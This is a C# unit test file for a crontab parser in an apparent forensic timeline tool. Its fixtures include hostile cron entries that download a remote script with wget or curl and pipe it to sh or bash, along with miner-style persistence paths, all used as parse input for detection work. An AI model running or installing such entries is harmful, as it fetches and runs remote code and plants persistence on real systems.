using Timeline.Core.Events;
using Timeline.Parsers.Linux.Persistence.Crontab;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.Persistence;

public sealed class CrontabParserTests
{
    private static readonly CrontabParser Parser = new();

    [Fact]
    public void UserSpoolTableTakesTheOwnerFromThePath()
    {
        var outcome = ParserHarness.ParseText(Parser, "# m h dom mon dow command\n* * * * * wget -q -O - http://203.0.113.9/d.sh | sh\n", "/var/spool/cron/crontabs/www-data");

        var entry = Assert.Single(outcome.Events);
        Assert.Equal("crontab_entry", entry.Fields.Get("event"));
        Assert.Equal("user", entry.Fields.Get("table"));
        Assert.Equal("www-data", entry.Fields.Get("cron_user"));
        Assert.Equal("* * * * *", entry.Fields.Get("schedule"));
        Assert.Equal("wget -q -O - http://203.0.113.9/d.sh | sh", entry.Fields.Get("command"));
        Assert.Equal(2, entry.Origin.Position);
        Assert.Equal(SampleContext.DefaultMtime.UtcTicks, entry.Ticks);
        Assert.Equal(entry.Ticks, entry.SortTicks);
        Assert.Equal(TimeQuality.FileMtime, entry.TimeQuality);
    }

    [Theory]
    [InlineData("/etc/crontab")]
    [InlineData("/etc/cron.d/zzh")]
    [InlineData("etc-cron.d-apache")]
    public void SystemTablesTakeTheUserFromTheUserColumn(string path)
    {
        var outcome = ParserHarness.ParseText(Parser, "*/40 * * * * nginx sh /etc/newinit.sh >/dev/null 2>&1\n", path);

        var entry = Assert.Single(outcome.Events);
        Assert.Equal("system", entry.Fields.Get("table"));
        Assert.Equal("nginx", entry.Fields.Get("cron_user"));
        Assert.Equal("sh /etc/newinit.sh >/dev/null 2>&1", entry.Fields.Get("command"));
        Assert.Equal(path, entry.Fields.Get("path"));
    }

    [Fact]
    public void AnUnclassifiedPathIsASystemTableWhenTheSixthTokenIsAnAccount()
    {
        var system = ParserHarness.ParseText(Parser, "0 1 * * * root sh /etc/newinit.sh\n", "evidence/cronfile");
        var user = ParserHarness.ParseText(Parser, "0 1 * * * sh /etc/newinit.sh\n", "evidence/cronfile");

        Assert.Equal("system", system.Events[0].Fields.Get("table"));
        Assert.Equal("root", system.Events[0].Fields.Get("cron_user"));
        Assert.Equal("user", user.Events[0].Fields.Get("table"));
        Assert.Equal("sh /etc/newinit.sh", user.Events[0].Fields.Get("command"));
    }

    [Fact]
    public void NicknamesSuchAsRebootAreSchedules()
    {
        var outcome = ParserHarness.ParseText(Parser, "@reboot /root/.configrc/a/upd>/dev/null 2>&1\n@hourly root /bin/true\n", "/var/spool/cron/root");

        Assert.Equal("@reboot", outcome.Events[0].Fields.Get("schedule"));
        Assert.Equal("/root/.configrc/a/upd>/dev/null 2>&1", outcome.Events[0].Fields.Get("command"));
        Assert.Equal("root /bin/true", outcome.Events[1].Fields.Get("command"));
        Assert.Empty(outcome.Warnings);
    }

    [Fact]
    public void EnvironmentLinesAreCronEnvEvents()
    {
        var outcome = ParserHarness.ParseText(Parser, "SHELL=/bin/bash\nMAILTO = \"\"\n17 * * * * root run-parts /etc/cron.hourly\n", "/etc/crontab");

        Assert.Equal(["cron_env", "cron_env", "crontab_entry"], outcome.Events.Select(e => e.Fields.Get("event")));
        Assert.Equal("SHELL", outcome.Events[0].Fields.Get("env_name"));
        Assert.Equal("/bin/bash", outcome.Events[0].Fields.Get("env_value"));
        Assert.Equal("MAILTO", outcome.Events[1].Fields.Get("env_name"));
    }

    [Theory]
    [InlineData("61 * * * * /bin/true", "bad minute '61'")]
    [InlineData("* 24 * * * /bin/true", "bad hour '24'")]
    [InlineData("* * 0 * * /bin/true", "bad day of month '0'")]
    [InlineData("* * * foo * /bin/true", "bad month 'foo'")]
    [InlineData("* * * * 8 /bin/true", "bad day of week '8'")]
    [InlineData("* * * *", "entry ends after 4 of 5 time fields")]
    [InlineData("* * * * *", "bad command")]
    [InlineData("@often /bin/true", "bad time specifier '@often'")]
    public void InvalidLinesAreWarnedAndKeptAsEvents(string line, string problem)
    {
        var outcome = ParserHarness.ParseText(Parser, "0 3 * * * /usr/local/bin/backup.sh\n" + line + "\n", "/var/spool/cron/root");

        Assert.Equal(2, outcome.Events.Count);
        Assert.Equal("crontab_invalid", outcome.Events[1].Fields.Get("event"));
        Assert.Equal(line, outcome.Events[1].Message);
        var warning = Assert.Single(outcome.Warnings);
        Assert.Equal(2, warning.Origin.Position);
        Assert.Contains(problem, warning.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void ValidFieldSyntaxIsAccepted()
    {
        var outcome = ParserHarness.ParseText(Parser, "*/5 1-5,22 1,15 jan-mar mon-fri /bin/true\n0~30 * * * SUN /bin/true\n", "/var/spool/cron/root");

        Assert.All(outcome.Events, e => Assert.Equal("crontab_entry", e.Fields.Get("event")));
        Assert.Empty(outcome.Warnings);
    }

    [Fact]
    public void ASystemTableEntryWithoutAUserColumnIsInvalid()
    {
        var outcome = ParserHarness.ParseText(Parser, "* * * * * curl -s http://198.51.100.77:8220/logo3.jpg | bash -s\n", "/etc/crontab");

        var entry = Assert.Single(outcome.Events);
        Assert.Equal("crontab_invalid", entry.Fields.Get("event"));
        Assert.Equal("curl -s http://198.51.100.77:8220/logo3.jpg | bash -s", entry.Fields.Get("command"));
        Assert.Contains("bad username 'curl'", Assert.Single(outcome.Warnings).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void CronieDontLogPrefixIsRecorded()
    {
        var outcome = ParserHarness.ParseText(Parser, "-*/5 * * * * root /usr/lib/x\n", "/etc/cron.d/x");

        Assert.Equal("true", outcome.Events[0].Fields.Get("dont_log"));
        Assert.Equal("*/5 * * * *", outcome.Events[0].Fields.Get("schedule"));
    }
}
